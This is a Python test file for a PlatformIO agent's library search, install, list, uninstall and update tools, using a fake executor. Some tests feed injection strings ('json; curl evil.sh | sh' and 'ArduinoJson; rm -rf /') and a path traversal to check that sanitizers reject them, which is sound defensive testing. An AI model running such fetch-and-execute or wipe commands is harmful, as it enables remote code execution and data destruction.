"""Library tool tests."""

import json
import logging
from pathlib import Path

import pytest

from pioagent.kernel.errors import (
    InvalidArgumentError,
    InvalidLibraryNameError,
    InvalidVersionError,
    LibraryError,
    PathTraversalError,
)
from pioagent.tools.libraries import (
    get_library_info,
    install_library,
    list_installed_libraries,
    search_libraries,
    uninstall_library,
    update_libraries,
)
from tests.fakes.executor import ScriptedExecutor, failed, ok

SEARCH_PAGE = {
    "page": 1,
    "perpage": 10,
    "total": 3,
    "items": [
        {
            "id": 64,
            "name": "ArduinoJson",
            "description": "A simple and efficient JSON library for embedded C++.",
            "keywords": ["json", "rest"],
            "authornames": ["Benoit Blanchon"],
            "frameworks": [{"name": "arduino", "title": "Arduino"}],
            "platforms": [{"name": "atmelavr", "title": "Atmel AVR"}],
            "versionname": "6.21.3",
        },
        {"id": 1560, "name": "ArduinoJson-esphomelib", "versionname": "5.13.3"},
        {"id": 7117, "name": "Json Streaming Parser"},
    ],
}

INSTALLED = [
    {
        "name": "Adafruit NeoPixel",
        "version": "1.11.0",
        "description": "Arduino library for controlling single-wire LED pixels",
        "authors": [{"name": "Adafruit", "email": "info@adafruit.com"}],
        "homepage": "https://github.com/adafruit/Adafruit_NeoPixel",
    }
]


@pytest.mark.unit
@pytest.mark.P0
@pytest.mark.asyncio
class TestSearchLibraries:
    async def test_paginated_output(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE)))

        libraries = await search_libraries("json", executor=executor)

        assert [lib.name for lib in libraries] == [
            "ArduinoJson",
            "ArduinoJson-esphomelib",
            "Json Streaming Parser",
        ]
        assert libraries[0].version == "6.21.3"
        assert libraries[0].authors == ["Benoit Blanchon"]
        assert executor.calls[0].args == ["search", "json", "--json-output"]

    async def test_plain_list_output(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE["items"])))

        libraries = await search_libraries("json", executor=executor)

        assert len(libraries) == 3

    async def test_limit(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE)))

        libraries = await search_libraries("json", limit=1, executor=executor)

        assert [lib.id for lib in libraries] == [64]

    async def test_query_is_sanitized(self) -> None:
        executor = ScriptedExecutor(ok("[]"))

        await search_libraries("json; curl evil.sh | sh", executor=executor)

        assert executor.calls[0].args[1] == "json curl evil.sh  sh"

    async def test_empty_query_rejected(self) -> None:
        executor = ScriptedExecutor()

        with pytest.raises(InvalidArgumentError):
            await search_libraries(" ;| ", executor=executor)

        assert executor.calls == []

    async def test_registry_failure(self) -> None:
        with pytest.raises(LibraryError) as exc_info:
            await search_libraries("json", executor=ScriptedExecutor(failed("Error: offline")))

        assert exc_info.value.context["query"] == "json"


@pytest.mark.unit
@pytest.mark.P1
@pytest.mark.asyncio
class TestGetLibraryInfo:
    async def test_exact_name_wins_over_first_hit(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE)))

        library = await get_library_info("json streaming parser", executor=executor)

        assert library is not None
        assert library.id == 7117

    async def test_numeric_id(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE)))

        library = await get_library_info("1560", executor=executor)

        assert library is not None
        assert library.name == "ArduinoJson-esphomelib"

    async def test_falls_back_to_first_result(self) -> None:
        executor = ScriptedExecutor(ok(json.dumps(SEARCH_PAGE)))

        library = await get_library_info("json", executor=executor)

        assert library is not None
        assert library.name == "ArduinoJson"

    async def test_no_results(self) -> None:
        assert await get_library_info("nothing", executor=ScriptedExecutor(ok("[]"))) is None


@pytest.mark.unit
@pytest.mark.P0
@pytest.mark.asyncio
class TestLibraryManagement:
    async def test_install_globally(self) -> None:
        executor = ScriptedExecutor(ok("Library Manager: ArduinoJson@6.21.3 has been installed!"))

        result = await install_library("ArduinoJson", executor=executor)

        assert result.success
        assert result.library == "ArduinoJson"
        call = executor.calls[0]
        assert (call.command, call.args) == ("lib", ["install", "ArduinoJson"])
        assert call.cwd is None
        assert call.timeout == 120.0

    async def test_install_pinned_version_into_project(self, tmp_path: Path) -> None:
        executor = ScriptedExecutor(ok())

        result = await install_library(
            "ArduinoJson", str(tmp_path), "^6.21.3", executor=executor
        )

        assert executor.calls[0].args == ["install", "ArduinoJson@^6.21.3"]
        assert executor.calls[0].cwd == str(tmp_path)
        assert "to project" in result.message

    async def test_invalid_name_rejected(self) -> None:
        with pytest.raises(InvalidLibraryNameError):
            await install_library("ArduinoJson; rm -rf /", executor=ScriptedExecutor())

    async def test_invalid_version_rejected(self) -> None:
        with pytest.raises(InvalidVersionError):
            await install_library("ArduinoJson", version="latest", executor=ScriptedExecutor())

    async def test_traversal_in_project_dir_rejected(self) -> None:
        with pytest.raises(PathTraversalError):
            await install_library("ArduinoJson", "../other", executor=ScriptedExecutor())

    async def test_install_failure(self) -> None:
        executor = ScriptedExecutor(failed("Error: Could not find the package with 'NoSuchLib'"))

        with pytest.raises(LibraryError) as exc_info:
            await install_library("NoSuchLib", executor=executor)

        assert "NoSuchLib" in exc_info.value.message
        assert exc_info.value.context["exit_code"] == 1

    async def test_list_installed(self, tmp_path: Path) -> None:
        executor = ScriptedExecutor(ok(json.dumps(INSTALLED)))

        libraries = await list_installed_libraries(str(tmp_path), executor=executor)

        assert libraries[0].version == "1.11.0"
        assert executor.calls[0].args == ["list", "--json-output"]
        assert executor.calls[0].cwd == str(tmp_path)

    async def test_list_installed_empty_stderr_fallback(
        self, caplog: pytest.LogCaptureFixture
    ) -> None:
        executor = ScriptedExecutor(failed("No libraries installed"))

        with caplog.at_level(logging.WARNING, logger="pioagent.tools.libraries"):
            assert await list_installed_libraries(executor=executor) == []

        assert "lib list" in caplog.text

    async def test_list_installed_failure(self) -> None:
        with pytest.raises(LibraryError):
            await list_installed_libraries(executor=ScriptedExecutor(failed("Error: broken")))

    async def test_uninstall(self, tmp_path: Path) -> None:
        executor = ScriptedExecutor(ok())

        result = await uninstall_library("ArduinoJson", str(tmp_path), executor=executor)

        assert result.message == "Successfully uninstalled ArduinoJson from project"
        assert executor.calls[0].args == ["uninstall", "ArduinoJson"]
        assert executor.calls[0].timeout == 60.0

    async def test_update(self) -> None:
        executor = ScriptedExecutor(ok())

        result = await update_libraries(executor=executor)

        assert result.message == "Successfully updated libraries globally"
        assert executor.calls[0].args == ["update"]
        assert executor.calls[0].timeout == 180.0
